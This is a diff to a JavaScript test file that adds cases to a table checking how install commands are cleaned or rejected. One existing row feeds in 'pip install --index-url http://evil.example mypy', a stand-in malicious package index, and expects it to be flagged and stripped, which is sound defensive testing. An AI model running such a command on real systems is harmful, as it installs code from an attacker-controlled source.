@@ -109,6 +109,8 @@ describe('an install command', () => {
       [/^Install: Unidecode: what the work needs stands/],
     ],
     ['pip install --index-url http://evil.example mypy', 'pip install mypy', [/^Install: --index-url http:\/\/evil\.example: /]],
+    ['pip install --upgrade pip && pip install -e .[dev]', 'pip install -e .[dev]', [/^Install: --upgrade pip: what the work needs/]],
+    ['python -m venv .venv && pip install -e .[dev]', '', [/^Install: "python -m venv .venv" is not a plain/]],
     ['cd web && npm ci', '', [/^Install: "cd web" is not a plain install command/]],
     ['pip install requests', '', [/^Install: "pip install requests" is not a plain/]],
   ];
